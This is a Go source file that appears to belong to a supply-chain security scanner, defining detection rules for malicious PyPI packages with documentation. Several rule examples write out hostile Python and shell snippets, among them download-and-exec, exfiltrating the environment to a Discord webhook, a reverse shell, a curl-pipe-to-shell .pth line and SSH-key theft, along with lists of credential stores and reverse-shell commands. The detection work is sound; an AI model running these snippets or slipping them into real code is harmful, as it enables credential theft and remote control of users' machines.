// Package malcode holds krait's malicious-code rules (KRT6xxx): the
// patterns of published supply-chain attacks on PyPI, matched over the
// Python files of a package through the semantic model (aliases,
// assignments) and a small flow-insensitive data-flow helper (Origins).
//
// Each rule reports a raw pattern; the package inspector
// (internal/supplychain/inspect) decides where the code runs (install
// time, import time, inside a function) and weighs the findings into a
// verdict. The rules are also usable on their own through Analyzers.
package malcode

import (
	"fmt"
	"strings"

	"github.com/krait-dev/krait/internal/analysis"
	"github.com/krait-dev/krait/internal/finding"
)

// Meta is what the inspector needs to know about a rule to weigh its
// findings.
type Meta struct {
	// Weight is the points one finding scores where its code runs at
	// install time (see the inspector's scoring).
	Weight float64
	// Decisive rules are patterns honest packages do not use: only they
	// can make a verdict malicious. Network access, subprocess and the
	// like are never decisive.
	Decisive bool
	// ContextOnly rules report a pattern that matters only where it runs
	// at install, import or interpreter start-up time; the inspector
	// drops their findings inside functions nobody calls then.
	ContextOnly bool
	// Technique is the attack technique the rule cites.
	Technique string
	// IndexMetadata rules judge what the index says about the project
	// (age, releases, summary, e-mail, repository): their findings
	// together score at most the inspector's metadata cap, so that
	// metadata alone never makes a package even suspicious.
	IndexMetadata bool
}

// RuleInfo is a rule's metadata and weighing.
type RuleInfo struct {
	analysis.Rule
	Meta
}

type docParts struct {
	what, why, example, instead, refs string
}

func makeDoc(d docParts) string {
	return fmt.Sprintf("## What it does\n\n%s\n\n## Why is this bad?\n\n%s\n\n## Example\n\n```python\n%s\n```\n\n## Use instead\n\n%s\n\n## References\n\n%s\n",
		strings.TrimSpace(d.what), strings.TrimSpace(d.why), strings.TrimSpace(d.example), strings.TrimSpace(d.instead), strings.TrimSpace(d.refs))
}

const mitre = "- MITRE ATT&CK T1195.002, Compromise Software Supply Chain: https://attack.mitre.org/techniques/T1195/002/\n"

func rule(id, name string, cwe []int, sev finding.Severity, conf finding.Confidence, summary string, m Meta, d docParts) *RuleInfo {
	d.refs = d.refs + "\n" + mitre + "- Technique: " + m.Technique
	return &RuleInfo{
		Rule: analysis.Rule{
			ID: id, Name: name, CWE: cwe, Severity: sev, Confidence: conf, Summary: summary,
			Doc: makeDoc(d),
		},
		Meta: m,
	}
}

// The rule IDs.
const (
	IDDownloadExec       = "KRT6001"
	IDDecodedExec        = "KRT6002"
	IDDynamicImport      = "KRT6003"
	IDObfuscatedLiteral  = "KRT6004"
	IDExfiltration       = "KRT6005"
	IDCredentialAccess   = "KRT6006"
	IDReverseShell       = "KRT6007"
	IDPersistence        = "KRT6008"
	IDSilentLaunch       = "KRT6009"
	IDExecutableDropped  = "KRT6010"
	IDSteganography      = "KRT6011"
	IDInstallNetwork     = "KRT6012"
	IDPthExec            = "KRT6013"
	IDSiteCustomize      = "KRT6014"
	IDConsoleShadow      = "KRT6016"
	IDCloudMetadata      = "KRT6017"
	IDCISecret           = "KRT6018"
	IDBeacon             = "KRT6019"
	IDKnownObfuscator    = "KRT6020"
	IDHiddenCode         = "KRT6021"
	IDPipInstall         = "KRT6022"
	IDBinaryInPackage    = "KRT6023"
	IDInstallCommand     = "KRT6026"
	IDNameMismatch       = "KRT6030"
	IDSuspiciousVersion  = "KRT6031"
	IDSdistWheelMismatch = "KRT6032"
	IDUnsafeArchive      = "KRT6033"
	IDTyposquat          = "KRT6035"
	IDUnreadable         = "KRT6039"
	IDPlaceholderSummary = "KRT6040"
	IDYoungProject       = "KRT6041"
	IDSingleRelease      = "KRT6042"
	IDMaintainerEmail    = "KRT6043"
	IDRepositoryMismatch = "KRT6044"
	IDStarjacking        = "KRT6045"
	IDLinkMissing        = "KRT6046"
	IDMailDomainDead     = "KRT6047"
)

// Rules returns the metadata of every KRT6xxx rule, code rules and
// package rules alike, in ID order. Each call returns new values.
func Rules() []*RuleInfo {
	H, M, L, C := finding.High, finding.Medium, finding.Low, finding.Critical
	hc, mc, lc := finding.HighConfidence, finding.MediumConfidence, finding.LowConfidence
	return []*RuleInfo{
		rule(IDDownloadExec, "download-and-execute", []int{494, 506}, C, hc,
			"data fetched from the network is executed, or written to disk and run",
			Meta{Weight: 12, Decisive: true, Technique: "ingress tool transfer then execution (ATT&CK T1105, T1059.006): the W4SP/`pip install` droppers that fetch a second stage at install time"},
			docParts{
				what:    "Finds network data (urllib, requests, httpx, sockets, curl/wget/PowerShell download commands) that reaches exec, eval, compile or a process launch, and files written from the network that the same code then runs.",
				why:     "The package's visible code is only a loader: the real payload lives on a server the attacker controls and can change after review. This is how most malicious PyPI uploads deliver their stealers.",
				example: "import urllib.request as u\nexec(u.urlopen('https://paste.example/raw/x').read())",
				instead: "Ship the code in the package. Download data, never code, and verify it against a pinned hash.",
				refs:    "- CWE-494: Download of Code Without Integrity Check",
			}),
		rule(IDDecodedExec, "decoded-code-execution", []int{506, 95}, H, hc,
			"decoded or decompressed data (base64, zlib, marshal, rot13, hex, reversed strings) is executed",
			Meta{Weight: 10, Decisive: true, Technique: "obfuscated files or information (ATT&CK T1027): base64/zlib/marshal layers around the payload"},
			docParts{
				what:    "Finds exec, eval, compile, marshal-loaded code and process launches whose input went through a decoder: base64, binascii, codecs (rot13, hex), bytes.fromhex, zlib/gzip/bz2/lzma, marshal, chr-joins, bytes of integer lists and reversed strings.",
				why:     "Honest code has no reason to hide the code it runs. Encoding layers exist to defeat review and scanners.",
				example: "import base64 as b\npayload = b.b64decode(BLOB)\nexec(payload)",
				instead: "Write the code out in the package.",
				refs:    "- CWE-506: Embedded Malicious Code",
			}),
		rule(IDDynamicImport, "dynamic-import-obfuscation", []int{506}, M, mc,
			"__import__/import_module with a computed name, or getattr on builtins",
			Meta{Weight: 3, Technique: "obfuscated files or information (ATT&CK T1027): names of modules and builtins assembled at run time"},
			docParts{
				what:    "Finds __import__ and importlib.import_module with a name that is not a constant, getattr on builtins/__builtins__ (or a builtin reached by a computed name), and subscripts of __builtins__ for exec, eval or compile.",
				why:     "Hides which modules and functions the code uses from readers and from name-based scanners. Plugin systems do it too, so it only adds weight.",
				example: "m = __import__(''.join(['o', 's']))\nf = getattr(__builtins__, 'ex' + 'ec')",
				instead: "Import modules by name; call builtins directly.",
				refs:    "- CWE-506: Embedded Malicious Code",
			}),
		rule(IDObfuscatedLiteral, "obfuscated-literal", []int{506}, L, lc,
			"very long or high-entropy string literal",
			Meta{Weight: 2, Technique: "obfuscated files or information (ATT&CK T1027): encoded payload blobs"},
			docParts{
				what:    "Finds string and bytes literals made of base64 or hex characters that are very long or of high entropy.",
				why:     "Encoded payloads are carried as literals. Honest packages embed data too, so this only adds weight.",
				example: "BLOB = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgiY3VybCAuLi4iKQ...'  # thousands of characters",
				instead: "Ship data as data files with a clear format.",
				refs:    "- CWE-506: Embedded Malicious Code",
			}),
		rule(IDExfiltration, "data-exfiltration", []int{200, 522}, C, hc,
			"secrets (environment, SSH/AWS keys, browser data, tokens, clipboard) are sent over the network",
			Meta{Weight: 12, Decisive: true, Technique: "exfiltration over web service / C2 channel (ATT&CK T1567, T1041): stealers posting to Discord/Telegram webhooks"},
			docParts{
				what:    "Follows secret data — the whole environment or secret-named variables, files under ~/.ssh and ~/.aws, browser profiles, Discord and Telegram token stores, crypto wallets, the clipboard, cloud metadata responses — into an HTTP request, a socket, a DNS lookup, mail or a webhook.",
				why:     "This is the purpose of most malicious packages: credential theft the moment they are installed.",
				example: "import os, requests\nrequests.post('https://discord.com/api/webhooks/1/x', json=dict(os.environ))",
				instead: "Never send credentials anywhere but the service they belong to, through its client library.",
				refs:    "- CWE-200: Exposure of Sensitive Information\n- CWE-522: Insufficiently Protected Credentials",
			}),
		rule(IDCredentialAccess, "credential-store-access", []int{522}, M, mc,
			"reads a credential store: SSH keys, cloud credentials, browser profiles, Discord/Telegram tokens, wallets",
			Meta{Weight: 5, Technique: "credentials from password stores / unsecured credentials (ATT&CK T1555, T1552.001)"},
			docParts{
				what:    "Finds files and directories of credential stores named in open, pathlib, glob, os.walk, shutil and zip calls: ~/.ssh, ~/.aws/credentials, .git-credentials, .pypirc, .npmrc, kube and docker configs, Chrome/Firefox profile databases (Login Data, Cookies, logins.json), Discord Local Storage leveldb, Telegram tdata, wallets.",
				why:     "A library has no business reading another program's secrets; stealers start here.",
				example: "keys = open(os.path.expanduser('~/.ssh/id_rsa')).read()",
				instead: "Let the user pass the credentials the library needs.",
				refs:    "- CWE-522: Insufficiently Protected Credentials",
			}),
		rule(IDReverseShell, "reverse-shell", []int{506}, C, hc,
			"socket connected to a shell (dup2 of the socket onto stdio, /dev/tcp, nc -e)",
			Meta{Weight: 12, Decisive: true, Technique: "command and scripting interpreter over a reverse connection (ATT&CK T1059.004, T1571)"},
			docParts{
				what:    "Finds a socket connection whose file descriptor is duplicated onto standard input/output (os.dup2) or handed to a process together with a shell or pty.spawn, and shell commands that open reverse shells (/dev/tcp/, nc -e, bash -i >&).",
				why:     "It gives the attacker an interactive shell on the machine that installed the package.",
				example: "s = socket.socket(); s.connect((HOST, 4444))\nfor fd in (0, 1, 2): os.dup2(s.fileno(), fd)\npty.spawn('/bin/sh')",
				instead: "Nothing: no library needs this.",
				refs:    "- CWE-506: Embedded Malicious Code",
			}),
		rule(IDPersistence, "persistence-mechanism", []int{506}, H, hc,
			"installs itself to run again: cron, systemd units, shell rc files, Windows Run keys, Startup folder, LaunchAgents",
			Meta{Weight: 9, Decisive: true, Technique: "boot or logon autostart execution / scheduled task (ATT&CK T1547.001, T1053.003, T1543.002, T1546.004)"},
			docParts{
				what:    "Finds writes to crontabs, systemd unit directories (and systemctl enable), shell start-up files (~/.bashrc, ~/.zshrc, ~/.profile), Windows Run/RunOnce registry keys (winreg or reg add), the Startup folder, schtasks and macOS LaunchAgents.",
				why:     "Malware makes sure it survives the uninstall of the package and a reboot.",
				example: "with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('python3 -c \"...\" &\\n')",
				instead: "Document how users enable a service themselves.",
				refs:    "- CWE-506: Embedded Malicious Code",
			}),
		rule(IDSilentLaunch, "silent-process-launch", []int{506}, M, mc,
			"process launched detached or hidden (DETACHED_PROCESS, CREATE_NO_WINDOW, nohup, &, pythonw)",
			Meta{Weight: 4, Technique: "hide artifacts: hidden window / background process (ATT&CK T1564.003)"},
			docParts{
				what:    "Finds process launches with creationflags (DETACHED_PROCESS, CREATE_NO_WINDOW, CREATE_NEW_PROCESS_GROUP), a hidden window, start_new_session with output thrown away, and shell commands run with nohup, a trailing & or start /b, or through pythonw.",
				why:     "Droppers keep their second stage running after pip returns, out of sight.",
				example: "subprocess.Popen([exe], creationflags=subprocess.DETACHED_PROCESS | subprocess.CREATE_NO_WINDOW)",
				instead: "Run child processes in the foreground and wait for them.",
				refs:    "- CWE-506: Embedded Malicious Code",
			}),
		rule(IDExecutableDropped, "executable-dropped", []int{506}, H, mc,
			"writes an executable file (PE/ELF/Mach-O bytes, .exe/.dll/.scr/.bat/.vbs/.ps1) or marks a written file executable",
			Meta{Weight: 6, Technique: "ingress tool transfer (ATT&CK T1105): native droppers"},
			docParts{
				what:    "Finds files opened for writing whose name ends in an executable or script extension, writes of data that starts with PE (MZ), ELF or Mach-O magic bytes, and chmod of execute bits on a file the same code writes.",
				why:     "A Python package that produces native executables at run time is carrying a payload.",
				example: "open(os.path.join(tmp, 'svchost.exe'), 'wb').write(data)",
				instead: "Ship binaries in platform wheels where they can be inspected.",
				refs:    "- CWE-506: Embedded Malicious Code",
			}),
		rule(IDSteganography, "steganography-loader", []int{506}, C, hc,
			"code extracted from an image is executed",
			Meta{Weight: 10, Decisive: true, Technique: "steganography (ATT&CK T1027.003): payloads hidden in image pixels or appended to image files"},
			docParts{
				what:    "Follows data read out of images (PIL getdata/getpixel/tobytes, or the bytes of a .png/.jpg/.gif/.bmp/.ico file) into exec, eval, compile, a decoder feeding them, or a process launch.",
				why:     "Hiding code in a picture defeats text-based review; no honest package executes image content.",
				example: "img = Image.open('logo.png')\ncode = bytes(p[0] for p in img.getdata())\nexec(code)",
				instead: "Nothing: no library needs this.",
				refs:    "- CWE-506: Embedded Malicious Code",
			}),
		rule(IDInstallNetwork, "install-time-network-access", []int{829}, M, mc,
			"network access in code that runs at install, import or interpreter start-up time",
			Meta{Weight: 3, ContextOnly: true, Technique: "supply-chain compromise (ATT&CK T1195.002): install hooks that phone home"},
			docParts{
				what:    "Finds HTTP requests, sockets and DNS lookups in setup.py top level, cmdclass install/develop/egg_info overrides, build backends, __init__.py top level, .pth files and sitecustomize.py (and the functions they call).",
				why:     "Installing or importing a package should not talk to the network; this is how beacons and droppers start. Some honest build scripts download things, so this only adds weight.",
				example: "# setup.py\nurllib.request.urlopen('http://203.0.113.7/ping')",
				instead: "Declare dependencies in metadata; let the installer fetch them.",
				refs:    "- CWE-829: Inclusion of Functionality from Untrusted Control Sphere",
			}),
		rule(IDPthExec, "pth-code-execution", []int{506}, M, hc,
			".pth file with import lines, run at every interpreter start",
			Meta{Weight: 4, Technique: "event triggered execution: Python start-up hooks (ATT&CK T1546)"},
			docParts{
				what:    "Finds .pth files with lines starting with import: site.py executes them at every interpreter start. Their code is analysed by the other rules as start-up code.",
				why:     "A .pth file runs code in every Python process, long after the install. Namespace-package and editable-install helpers use it too, so it adds weight and its code is weighed as start-up code.",
				example: "# evil.pth\nimport os; os.system('curl -s http://x | sh')",
				instead: "Use entry points or explicit imports.",
				refs:    "- Python docs, site module: https://docs.python.org/3/library/site.html",
			}),
		rule(IDSiteCustomize, "sitecustomize-shipped", []int{506}, M, hc,
			"package ships sitecustomize.py or usercustomize.py, run at every interpreter start",
			Meta{Weight: 5, Technique: "event triggered execution: Python start-up hooks (ATT&CK T1546)"},
			docParts{
				what:    "Finds sitecustomize.py and usercustomize.py at the top level of a package's files.",
				why:     "Installed into site-packages they run at every interpreter start and can patch anything.",
				example: "# sitecustomize.py\nimport builtins; builtins.input = logger(builtins.input)",
				instead: "Ship an importable module and let applications import it.",
				refs:    "- Python docs, site module: https://docs.python.org/3/library/site.html",
			}),
		rule(IDConsoleShadow, "console-script-shadowing", []int{427}, H, hc,
			"console script shadows a common command (pip, python, git, ssh, sudo, ...)",
			Meta{Weight: 9, Decisive: true, Technique: "hijack execution flow: path interception (ATT&CK T1574.007)"},
			docParts{
				what:    "Finds console_scripts / gui_scripts entry points (entry_points.txt, setup.py, setup.cfg, pyproject [project.scripts]) named like pip, python, git, ssh, sudo, curl and other common commands, when the package is not that tool.",
				why:     "The wrapper runs instead of the real command on the user's PATH and can capture credentials typed or passed to it.",
				example: "setup(entry_points={'console_scripts': ['pip = helper.cli:main']})",
				instead: "Name console scripts after the package.",
				refs:    "- CWE-427: Uncontrolled Search Path Element",
			}),
		rule(IDCloudMetadata, "cloud-metadata-access", []int{918}, M, mc,
			"cloud instance metadata endpoint (169.254.169.254, metadata.google.internal)",
			Meta{Weight: 5, ContextOnly: true, Technique: "cloud instance metadata API (ATT&CK T1552.005)"},
			docParts{
				what:    "Finds the addresses of cloud instance-metadata services (169.254.169.254, fd00:ec2::254, 169.254.170.2, metadata.google.internal, 100.100.100.200) in code that runs at install, import or start-up time. Responses read from them count as secrets for data-exfiltration wherever they are.",
				why:     "The metadata service hands out the machine's cloud credentials. Cloud SDKs use it too, so this only adds weight.",
				example: "requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/')",
				instead: "Use the cloud provider's SDK credential chain.",
				refs:    "- CWE-918: Server-Side Request Forgery",
			}),
		rule(IDCISecret, "ci-secret-access", []int{522}, M, mc,
			"reads CI secrets or other processes' environments (GITHUB_TOKEN, PYPI tokens, /proc/*/environ)",
			Meta{Weight: 4, Technique: "unsecured credentials in CI (ATT&CK T1552.001, T1552.007)"},
			docParts{
				what:    "Finds reads of CI and registry tokens (GITHUB_TOKEN, ACTIONS_RUNTIME_TOKEN, CI_JOB_TOKEN, PYPI/TWINE/NPM tokens, cloud secret keys) and of /proc/self/environ or /proc/<pid>/environ.",
				why:     "Packages installed in CI are a way into the project's release credentials. SDKs read their own keys too, so this only adds weight.",
				example: "token = os.environ['GITHUB_TOKEN']",
				instead: "Read only the configuration your library documents.",
				refs:    "- CWE-522: Insufficiently Protected Credentials",
			}),
		rule(IDBeacon, "dependency-confusion-beacon", []int{200}, H, mc,
			"sends host information (hostname, user, cwd, IP) over the network",
			Meta{Weight: 8, Decisive: true, Technique: "dependency confusion (Birsan 2021): a public package named like an internal one that reports where it was installed"},
			docParts{
				what:    "Follows host information — hostname, user name, working directory, home, platform, local IP — into an HTTP request, socket or DNS lookup.",
				why:     "It tells the attacker which organisation installed the package; a real attack follows. Weighed fully only where it runs at install or import time.",
				example: "requests.get('https://x.oast.example/', params={'h': socket.gethostname(), 'u': getpass.getuser(), 'd': os.getcwd()})",
				instead: "Do not collect telemetry without consent.",
				refs:    "- CWE-200: Exposure of Sensitive Information\n- Alex Birsan, Dependency Confusion (2021)",
			}),
		rule(IDKnownObfuscator, "known-obfuscator", []int{506}, H, mc,
			"output of a known obfuscator: PyArmor runtime stubs, lambda chains, mangled identifiers",
			Meta{Weight: 8, Decisive: true, Technique: "obfuscated files or information: software packing (ATT&CK T1027.002)"},
			docParts{
				what:    "Finds PyArmor stubs (pytransform / pyarmor_runtime imports, __pyarmor__ calls), chains of nested or immediately-invoked lambdas, and modules whose identifiers are mangled (many names made of O, 0, I, l, 1 and _).",
				why:     "Packed code cannot be reviewed; at install or import time it is treated as hostile.",
				example: "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'\\x50\\x59...')",
				instead: "Publish readable source.",
				refs:    "- CWE-506: Embedded Malicious Code",
			}),
		rule(IDHiddenCode, "hidden-code-whitespace", []int{506}, H, hc,
			"code hidden far to the right after hundreds of spaces",
			Meta{Weight: 8, Decisive: true, Technique: "obfuscated files or information (ATT&CK T1027): code pushed off-screen"},
			docParts{
				what:    "Finds Python lines where code follows a run of more than 100 spaces or tabs, out of sight in editors and diffs.",
				why:     "There is no honest reason to push code off-screen.",
				example: "VERSION = '1.0'" + strings.Repeat(" ", 8) + "...;__import__('os').system('...')",
				instead: "Write code where it can be read.",
				refs:    "- CWE-506: Embedded Malicious Code",
			}),
		rule(IDPipInstall, "pip-install-from-code", []int{829}, M, mc,
			"runs pip install from code",
			Meta{Weight: 3, Technique: "supply-chain compromise (ATT&CK T1195.002): installing undeclared (often malicious) dependencies"},
			docParts{
				what:    "Finds process launches of pip install (pip, pip3, python -m pip, sys.executable -m pip) and calls of pip's internal main with install.",
				why:     "Installs packages that are not in the declared metadata, out of the user's sight.",
				example: "subprocess.call([sys.executable, '-m', 'pip', 'install', 'colourama'])",
				instead: "Declare dependencies in the package metadata.",
				refs:    "- CWE-829: Inclusion of Functionality from Untrusted Control Sphere",
			}),
		rule(IDBinaryInPackage, "binary-in-package", []int{506}, M, mc,
			"executable (ELF/PE/Mach-O) shipped in the package, or disguised under another extension",
			Meta{Weight: 4, Technique: "masquerading (ATT&CK T1036.008) and ingress tool transfer (T1105)"},
			docParts{
				what:    "Finds files that start with ELF, PE (MZ) or Mach-O magic bytes and files named .exe/.dll/.so/.dylib in a source distribution; a binary under a non-binary extension (.txt, .png, .py) weighs more.",
				why:     "Source distributions should hold source; native payloads are what droppers run. Launchers in wheels (pip's .exe stubs) exist, so it only adds weight unless disguised.",
				example: "mypkg/assets/logo.png   # starts with \\x7fELF",
				instead: "Build native code from source in the build backend, or publish platform wheels.",
				refs:    "- CWE-506: Embedded Malicious Code",
			}),
		rule(IDInstallCommand, "install-time-command", []int{78}, L, mc,
			"process launched in code that runs at install, import or start-up time",
			Meta{Weight: 2, ContextOnly: true, Technique: "command and scripting interpreter (ATT&CK T1059) from install hooks"},
			docParts{
				what:    "Finds os.system, subprocess and similar in setup.py top level, cmdclass overrides, build backends, __init__.py top level, .pth files and sitecustomize.py (and the functions they call).",
				why:     "Commands at install time are how droppers start; honest build scripts run compilers and git, so this only adds weight.",
				example: "# setup.py\nos.system('id > /tmp/x')",
				instead: "Use the build backend's own mechanisms.",
				refs:    "- CWE-78: OS Command Injection",
			}),
		rule(IDNameMismatch, "metadata-name-mismatch", []int{345}, M, hc,
			"the archive's metadata names another project than the one requested",
			Meta{Weight: 5, Technique: "masquerading (ATT&CK T1036): a distribution re-uploaded under another name"},
			docParts{
				what:    "Compares the Name in PKG-INFO/METADATA with the requested project name and the archive's file name (PEP 503 normalised).",
				why:     "A package that calls itself something else was often copied from a popular project to borrow its look.",
				example: "requests-toolbelts-1.0.tar.gz  with  Name: requests-toolbelt",
				instead: "Keep the metadata name and the published name the same.",
				refs:    "- PEP 503 name normalisation: https://peps.python.org/pep-0503/",
			}),
		rule(IDSuspiciousVersion, "suspicious-version", []int{345}, M, mc,
			"version number made to win resolution (99.0.0, 1337.0.0)",
			Meta{Weight: 3, Technique: "dependency confusion (Birsan 2021): outranking internal versions"},
			docParts{
				what:    "Finds versions whose major number is 99 or more, or that jump by more than 50 majors over the previous release (from the index).",
				why:     "Dependency-confusion uploads use huge versions so resolvers prefer them over the internal package.",
				example: "Version: 99.0.0",
				instead: "Use the project's real version.",
				refs:    "- Alex Birsan, Dependency Confusion (2021)",
			}),
		rule(IDSdistWheelMismatch, "sdist-wheel-mismatch", []int{345}, H, mc,
			"the wheel's Python files differ from the sdist's",
			Meta{Weight: 5, Technique: "supply-chain compromise (ATT&CK T1195.002): code added only to built artifacts"},
			docParts{
				what:    "Compares the Python files of a release's sdist and wheel: files only in the wheel, or with different content.",
				why:     "Reviewers read the source; attackers put the payload only in the artifact pip installs.",
				example: "pkg-1.0-py3-none-any.whl: pkg/_hook.py (not in pkg-1.0.tar.gz)",
				instead: "Build wheels from the published sdist in CI.",
				refs:    "- SLSA provenance: https://slsa.dev/",
			}),
		rule(IDUnsafeArchive, "unsafe-archive-member", []int{22}, H, hc,
			"archive member that escapes the root, is a link, device or duplicate, or a bomb",
			Meta{Weight: 6, Technique: "archive path traversal (zip slip) and decompression bombs"},
			docParts{
				what:    "Reports the problems the safe archive reader refused: absolute paths, .. members, links, device files, duplicate names, compression bombs, truncation.",
				why:     "Honest build tools never produce such members; they target the unpacking tool.",
				example: "pkg-1.0/../../.bashrc",
				instead: "Build archives with the standard build tools.",
				refs:    "- CWE-22: Path Traversal",
			}),
		rule(IDTyposquat, "typosquatted-name", []int{1357}, M, mc,
			"the package name imitates a popular project",
			Meta{Weight: 3, Technique: "typosquatting (ATT&CK T1195.002)"},
			docParts{
				what:    "Checks the package name against popular PyPI projects (internal/supplychain/typosquat).",
				why:     "Typosquats are installed by mistake and are where most malicious uploads live.",
				example: "reqeusts",
				instead: "Install the project you meant.",
				refs:    "- CWE-1357: Reliance on Insufficiently Trustworthy Component",
			}),
		rule(IDUnreadable, "package-file-unreadable", []int{}, L, hc,
			"a Python file of the package cannot be parsed or read",
			Meta{Weight: 1, Technique: "defense evasion: files crafted to break analysers"},
			docParts{
				what:    "Reports Python files that do not parse or cannot be read; the other rules still run on the partial tree.",
				why:     "Malformed files can hide code from tools that give up on them.",
				example: "def f(:",
				instead: "Ship files that compile.",
				refs:    "- Python language reference",
			}),
		rule(IDPlaceholderSummary, "placeholder-summary", []int{1357}, L, lc,
			"the index gives the release no summary, or a placeholder one",
			Meta{Weight: 1, IndexMetadata: true, Technique: "throw-away uploads: malicious packages published with template or empty metadata"},
			docParts{
				what:    "Checks the release's summary from the index (`krait inspect NAME==VERSION` only): empty, `UNKNOWN`, template text (\"Add a short description here\", \"A sample Python project\", \"My package\", \"test\", ...) or just the project's name.",
				why:     "Malicious uploads are throw-away projects with template metadata. Many honest hobby projects are too, so this only adds a little weight.",
				example: "Summary: UNKNOWN",
				instead: "Describe the project in one line.",
				refs:    "- Core metadata, Summary: https://packaging.python.org/en/latest/specifications/core-metadata/#summary",
			}),
		rule(IDYoungProject, "young-project", []int{1357}, L, lc,
			"the project's first release is younger than the configured age (30 days by default)",
			Meta{Weight: 1.5, IndexMetadata: true, Technique: "supply-chain compromise (ATT&CK T1195.002): malicious projects are removed within days of upload"},
			docParts{
				what:    "Compares the upload time of the project's first release on the index with `--min-age` days (default 30).",
				why:     "Most malicious projects live for hours or days before the index removes them; established projects have history.",
				example: "first release 2 days ago",
				instead: "Wait for new projects to be reviewed, or read their code first.",
				refs:    "- PyPI malware reports: https://pypi.org/security/",
			}),
		rule(IDSingleRelease, "single-release", []int{1357}, L, lc,
			"the project has a single release on the index",
			Meta{Weight: 1, IndexMetadata: true, Technique: "supply-chain compromise (ATT&CK T1195.002): one-shot malicious uploads"},
			docParts{
				what:    "Counts the project's releases on the index.",
				why:     "Typosquats and droppers are usually published once; honest projects grow releases.",
				example: "releases: 0.0.1",
				instead: "Prefer projects with a maintenance history.",
				refs:    "- CWE-1357: Reliance on Insufficiently Trustworthy Component",
			}),
		rule(IDMaintainerEmail, "free-mail-maintainer", []int{1357}, L, lc,
			"the author/maintainer e-mail is at a free or disposable mail provider, or there is none",
			Meta{Weight: 0.5, IndexMetadata: true, Technique: "anonymous accounts: throw-away identities behind malicious uploads"},
			docParts{
				what:    "Checks the author and maintainer e-mail addresses of the release against a table of free-mail providers (gmail, outlook/hotmail, yahoo, proton, qq, 163, mail.ru, yandex, gmx, ...) and disposable-mail services, and reports a release that gives no address at all. Whether a domain has expired (so that its mail can be taken over) needs DNS and WHOIS and is not checked.",
				why:     "Anonymous, throw-away identities are what attackers publish under. Many honest maintainers use free mail (a third of the projects installed on our test machine) and many company projects give no address, so it weighs very little; disposable addresses weigh more.",
				example: "Author-email: dev12345@mailinator.com",
				instead: "Publish with a stable, reachable address (or a project address).",
				refs:    "- Core metadata, Author-email: https://packaging.python.org/en/latest/specifications/core-metadata/#author-email",
			}),
		rule(IDRepositoryMismatch, "repository-mismatch", []int{1357}, L, lc,
			"the homepage or repository URL names a repository that has nothing to do with the project's name",
			Meta{Weight: 1.5, IndexMetadata: true, Technique: "masquerading (ATT&CK T1036): borrowed project links"},
			docParts{
				what:    "Reads the homepage and project URLs of the release; for code hosts (GitHub, GitLab, Bitbucket, Codeberg) it compares the owner and repository names with the project name (normalised, split into words, `python-`/`py` affixes removed) and reports links that share nothing with it. Whether the URL exists is not checked (that needs the network).",
				why:     "Malicious uploads copy the links of another project, or point at unrelated repositories, to look maintained.",
				example: "Name: fastjson-utils\nHome-page: https://github.com/someone/weather-bot",
				instead: "Link the project's own repository.",
				refs:    "- Core metadata, Project-URL: https://packaging.python.org/en/latest/specifications/core-metadata/#project-url-multiple-use",
			}),
		rule(IDLinkMissing, "project-link-missing", []int{1357}, L, mc,
			"the homepage or repository the release links does not exist",
			Meta{Weight: 1.5, IndexMetadata: true, Technique: "masquerading (ATT&CK T1036): links made up to look maintained"},
			docParts{
				what:    "Online, asks each http(s) homepage and project URL of the release (a HEAD request, then GET); a 404 or 410 answer, or a host name that does not resolve, is reported. Offline the check is skipped.",
				why:     "Throw-away malicious uploads invent repository links or point at repositories deleted after the upload; real projects keep theirs.",
				example: "Home-page: https://github.com/someone/does-not-exist",
				instead: "Link the project's real repository and documentation.",
				refs:    "- Core metadata, Project-URL: https://packaging.python.org/en/latest/specifications/core-metadata/#project-url-multiple-use",
			}),
		rule(IDMailDomainDead, "maintainer-domain-unregistered", []int{1357}, M, mc,
			"the maintainer's e-mail domain has no mail or address records (expired or never registered)",
			Meta{Weight: 2, IndexMetadata: true, Technique: "account takeover through an expired maintainer domain (the ctx and phpass hijacks, 2022)"},
			docParts{
				what:    "Online, looks up each author and maintainer e-mail domain in DNS (MX, then A/AAAA records); a domain that does not exist is reported. Offline the check is skipped.",
				why:     "Whoever registers an expired domain can reset the password of the index account that uses an address there, and publish new releases of the project.",
				example: "Author-email: dev@expired-startup-domain.example",
				instead: "Keep the maintainer addresses on domains the project controls, and turn on two-factor authentication on the index.",
				refs:    "- https://blog.pypi.org/posts/2023-05-25-securing-pypi-with-2fa/",
			}),
		rule(IDStarjacking, "starjacking", []int{1357}, M, mc,
			"the homepage or repository URL points at the repository of a different, popular project",
			Meta{Weight: 3, Technique: "starjacking (Checkmarx 2022): borrowing a popular project's repository, stars and reputation"},
			docParts{
				what:    "Reports a code-host URL whose repository name is a popular PyPI project (from the typosquatting list) other than the one inspected, when the project name shares nothing with it.",
				why:     "Index pages show the linked repository's stars and forks; typosquats link the repository of the project they imitate to borrow its reputation.",
				example: "Name: reqeusts-toolkit\nProject-URL: Source, https://github.com/psf/requests",
				instead: "Link the project's own repository.",
				refs:    "- Checkmarx, StarJacking (2022)",
			}),
	}
}

// ByID returns the rules of Rules by ID.
func ByID() map[string]*RuleInfo {
	m := make(map[string]*RuleInfo)
	for _, r := range Rules() {
		m[r.ID] = r
	}
	return m
}
